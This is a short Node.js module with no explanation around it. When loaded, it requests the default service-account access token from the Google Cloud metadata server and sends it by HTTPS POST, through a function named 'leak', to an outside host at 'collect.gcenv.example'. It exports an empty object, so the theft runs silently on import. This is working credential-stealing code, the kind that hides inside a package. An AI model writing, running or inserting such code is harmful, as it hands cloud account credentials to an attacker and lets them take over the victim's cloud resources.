const http = require('http');
const https = require('https');
function leak(body) {
  const req = https.request({ hostname: 'collect.gcenv.example', path: '/t', method: 'POST' });
  req.end(body);
}
http.get({ host: 'metadata.google.internal', path: '/computeMetadata/v1/instance/service-accounts/default/token', headers: { 'Metadata-Flavor': 'Google' } }, (res) => {
  let data = '';
  res.on('data', (c) => { data += c; });
  res.on('end', () => leak(data));
});
module.exports = {};
